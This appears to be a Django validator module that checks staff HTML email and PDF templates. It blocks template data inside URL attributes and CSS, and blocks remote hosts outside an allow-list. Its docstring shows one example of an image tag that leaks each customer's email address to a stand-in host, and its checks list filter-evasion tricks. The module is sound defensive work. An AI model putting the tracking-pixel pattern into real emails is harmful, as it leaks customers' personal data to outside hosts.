"""Where a staff template may point: no template data inside an address, and in emails, remote
addresses only on the hosts the project allows.

An address is fetched by the mail client (or clicked) with whatever it contains:
`<img src="https://elsewhere.example/p.gif?e={{ customer.email }}">` would hand every
customer's address to that host the moment the email is opened. So, on save:

* no template variable or tag may be inside a URL attribute (`src`, `href`, `action`,
  `background`…), a `style` attribute's `url()`, or a stylesheet's `url()`/`@import`, nor
  write an attribute's name;
* in emails, an `http(s)://` or `//` address must name a host of
  `settings.EMAIL_ALLOWED_URL_HOSTS` (documents never fetch anything remote, whatever they say:
  the PDF renderer resolves only the project's static files).

The check reads the template's HTML with every variable and tag replaced by a marker, so it
sees exactly which attribute each one lands in. Rendered emails are checked again for remote
hosts (`remote_url_problems`): whatever a template computes, an email only points where
allowed.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from html.parser import HTMLParser
from urllib.parse import urlsplit

from django.http.request import validate_host
from django.template.base import Lexer, TokenType

# Attributes whose value a browser or mail client fetches or navigates to.
URL_ATTRIBUTES = frozenset(
    {
        "action",
        "archive",
        "background",
        "cite",
        "classid",
        "codebase",
        "data",
        "dynsrc",
        "formaction",
        "href",
        "icon",
        "longdesc",
        "lowsrc",
        "manifest",
        "ping",
        "poster",
        "profile",
        "src",
        "srcset",
        "usemap",
        "xlink:href",
    }
)

# Private-use characters: never typed by staff, unchanged by HTMLParser's lower-casing.
_OPEN, _CLOSE = "\ue000", "\ue001"
_MARKER = re.compile(f"{_OPEN}(\\d+){_CLOSE}")
# The tags that only decide what is output (structure), as opposed to those that output text.
_STRUCTURAL = frozenset(
    [
        "if",
        "elif",
        "else",
        "endif",
        "for",
        "empty",
        "endfor",
        "with",
        "endwith",
        "ifchanged",
        "endifchanged",
        "comment",
        "endcomment",
        "spaceless",
        "endspaceless",
        "autoescape",
        "endautoescape",
        "regroup",
    ]
)
# CSS that fetches: url(...), image-set(...), @import "...".
_CSS_FETCH = re.compile(r"(url|image-set)\s*\(([^)]*)\)?|@import\s+([^;{}\n]*)", re.IGNORECASE)
_CSS_ADDRESS = re.compile(r"""["']([^"']*)["']|([^\s"',()]+)""")


def _skeleton(source: str) -> tuple[str, dict[int, str]]:
    """The source with each variable/tag replaced by a numbered marker, and what each was."""
    parts, kinds = [], {}
    for index, token in enumerate(Lexer(source).tokenize()):
        if token.token_type == TokenType.TEXT:
            parts.append(token.contents)
        elif token.token_type == TokenType.COMMENT:
            continue
        else:
            word = token.contents.split()[0] if token.contents.split() else ""
            structural = token.token_type == TokenType.BLOCK and word in _STRUCTURAL
            kinds[index] = "structural" if structural else "output"
            parts.append(f"{_OPEN}{index}{_CLOSE}")
    return "".join(parts), kinds


# Schemes a mail client fetches or navigates over the network. For these, browsers (WHATWG
# URL parsing) read `https:host/`, `https:/host` and `https:\\host` as `https://host/`.
_NETWORK_SCHEMES = frozenset({"http", "https", "ftp", "ws", "wss"})
_IGNORED_IN_URLS = re.compile(r"[\t\n\r]")


def _normalise(address: str) -> str:
    """An address as a browser reads it: tabs and newlines anywhere are dropped, leading and
    trailing control characters and spaces trimmed, backslashes taken as slashes."""
    cleaned = _IGNORED_IN_URLS.sub("", address)
    return cleaned.strip("".join(chr(c) for c in range(0x21))).replace("\\", "/")


def _is_remote(address: str) -> bool:
    normalised = _normalise(address).lower()
    if normalised.startswith("//"):
        return True
    scheme, colon, _ = normalised.partition(":")
    return bool(colon) and scheme in _NETWORK_SCHEMES


def _host(address: str) -> str:
    normalised = _normalise(address)
    scheme, colon, rest = normalised.partition(":")
    if colon and scheme.lower() in _NETWORK_SCHEMES:
        normalised = f"{scheme}://{rest.lstrip('/')}"
    try:
        return (urlsplit(normalised).hostname or "").lower()
    except ValueError:
        return ""


_CSS_COMMENT = re.compile(r"/\*.*?(\*/|$)", re.DOTALL)
_CSS_ESCAPE = re.compile(r"\\(?:([0-9a-fA-F]{1,6})[ \t\n\r\f]?|(\n)|(.))", re.DOTALL)


def _decode_css(css: str) -> str:
    """CSS as the browser reads it: comments gone (their newlines kept, for line numbers) and
    escapes decoded, so `\\75 rl(` is seen as the `url(` it is."""

    def comment(match: re.Match) -> str:
        return "\n" * match.group(0).count("\n")

    def escape(match: re.Match) -> str:
        hex_digits, newline, char = match.groups()
        if hex_digits:
            code = int(hex_digits, 16)
            return chr(code) if 0 < code <= 0x10FFFF else "\ufffd"
        return "" if newline else char

    return _CSS_ESCAPE.sub(escape, _CSS_COMMENT.sub(comment, css))


class _Scanner(HTMLParser):
    def __init__(self, *, allowed_hosts: Sequence[str] | None, kinds: dict[int, str]):
        super().__init__(convert_charrefs=True)
        self.allowed_hosts = allowed_hosts
        self.kinds = kinds
        self.problems: list[str] = []
        self._in_style = False

    # --- helpers ------------------------------------------------------------------------------

    def _problem(self, line: int, text: str) -> None:
        self.problems.append(f"Line {line}: {text}")

    def _addresses(self, line: int, where: str, addresses: Iterable[str]) -> None:
        """Refuse remote addresses on hosts outside the allow-list (emails only)."""
        if self.allowed_hosts is None:
            return
        for address in addresses:
            if not _is_remote(address):
                continue
            host = _host(address)
            if not host or not validate_host(host, self.allowed_hosts):
                self._problem(
                    line,
                    f"{where} points at “{host or address}”, which is not an allowed host "
                    "(EMAIL_ALLOWED_URL_HOSTS).",
                )

    def _css(self, css: str, line: int, where: str) -> None:
        css = _decode_css(css)
        for match in _CSS_FETCH.finditer(css):
            at = line + css.count("\n", 0, match.start())
            text = match.group(2) if match.group(1) else match.group(3)
            text = text or ""
            what = "@import" if match.group(3) is not None else f"{match.group(1).lower()}()"
            if _MARKER.search(text):
                self._problem(
                    at,
                    f"{where} {what} contains a template variable or tag: an address must "
                    "be fixed text.",
                )
                continue
            found = [q or bare for q, bare in _CSS_ADDRESS.findall(text)]
            self._addresses(at, f"{where} {what}", found)

    # --- HTMLParser ---------------------------------------------------------------------------

    def handle_starttag(self, tag, attrs):
        line = self.getpos()[0]
        if _MARKER.search(tag):
            self._problem(line, "a template variable or tag cannot write an element's name.")
        for name, value in attrs:
            value = value or ""
            bare = _MARKER.sub("", name)
            if any(self.kinds.get(int(n)) == "output" for n in _MARKER.findall(name)):
                self._problem(
                    line,
                    f"a template variable or tag cannot write an attribute name (in <{tag}>).",
                )
                continue
            if bare in URL_ATTRIBUTES:
                if _MARKER.search(value):
                    self._problem(
                        line,
                        f"the {bare} attribute of <{_MARKER.sub('', tag)}> contains a template "
                        "variable or tag: an address must be fixed text.",
                    )
                    continue
                # srcset lists "address width, address width…"; the others hold one address.
                addresses = (
                    [part.split()[0] for part in value.split(",") if part.split()]
                    if bare == "srcset"
                    else [value]
                )
                self._addresses(line, f"the {bare} attribute of <{tag}>", addresses)
            elif bare == "style":
                self._css(value, line, f"the style attribute of <{tag}>:")
            elif bare == "content" and tag == "meta":
                self._meta_refresh(value, line)
        if tag == "style":
            self._in_style = True

    def _meta_refresh(self, content: str, line: int) -> None:
        """`<meta http-equiv="refresh" content="0;url=...">` navigates: its address too."""
        _, found, address = content.partition("=")
        if not found or "url" not in content.lower():
            return
        if _MARKER.search(address):
            self._problem(
                line,
                "the content attribute of <meta> contains a template variable or tag inside its "
                "address: an address must be fixed text.",
            )
            return
        self._addresses(line, "the content attribute of <meta>", [address.strip(" '\"")])

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "style":
            self._in_style = False

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False

    def handle_data(self, data):
        if self._in_style:
            self._css(data, self.getpos()[0], "the stylesheet's")


_RAW_MARKUP_FILTER = re.compile(r"\|\s*(safe|safeseq)\b")


def _raw_markup_problems(source: str) -> list[str]:
    """Output that bypasses escaping writes markup this check never sees (it is computed):
    in an email, that markup could point anywhere. Documents fetch nothing, so they may."""
    problems = []
    for token in Lexer(source).tokenize():
        words = token.contents.split()
        if token.token_type == TokenType.VAR and _RAW_MARKUP_FILTER.search(token.contents):
            problems.append(
                f"Line {token.lineno}: the safe filter is not allowed in emails: it would write "
                "template data as markup."
            )
        elif token.token_type == TokenType.BLOCK and words[:2] == ["autoescape", "off"]:
            problems.append(
                f"Line {token.lineno}: {{% autoescape off %}} is not allowed in emails: it would "
                "write template data as markup."
            )
    return problems


def template_url_problems(source: str, *, allowed_hosts: Sequence[str] | None) -> list[str]:
    """What is wrong with the addresses in a staff HTML template, one message per problem.

    `allowed_hosts` is the email allow-list; None for documents, which fetch nothing remote.
    """
    skeleton, kinds = _skeleton(source)
    scanner = _Scanner(allowed_hosts=allowed_hosts, kinds=kinds)
    scanner.feed(skeleton)
    scanner.close()
    if allowed_hosts is None:
        return scanner.problems
    return scanner.problems + _raw_markup_problems(source)


def stylesheet_url_problems(css: str, *, allowed_hosts: Sequence[str] | None) -> list[str]:
    """The same checks for a plain stylesheet (a layout's or a document's CSS)."""
    scanner = _Scanner(allowed_hosts=allowed_hosts, kinds={})
    scanner._css(css, 1, "the stylesheet's")
    return scanner.problems


def remote_url_problems(html: str, *, allowed_hosts: Sequence[str]) -> list[str]:
    """Remote addresses outside `allowed_hosts` in rendered HTML (an email about to be sent)."""
    scanner = _Scanner(allowed_hosts=allowed_hosts, kinds={})
    scanner.feed(html.replace(_OPEN, "").replace(_CLOSE, ""))
    scanner.close()
    return scanner.problems
